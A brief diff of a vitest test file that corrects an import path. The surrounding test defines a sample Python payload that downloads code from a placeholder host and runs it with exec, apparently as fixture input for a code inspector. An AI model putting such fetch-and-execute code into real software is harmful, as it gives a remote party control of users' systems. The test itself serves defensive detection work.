@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { memoryTree } from '../../../test/support/memory-tree.ts';
-import { inspect } from '../../index.ts';
+import { inspect } from '../index.ts';
 
 const PAYLOAD = "import requests\ndef load():\n    exec(requests.get('https://fixture.invalid/a').text)\n";
 
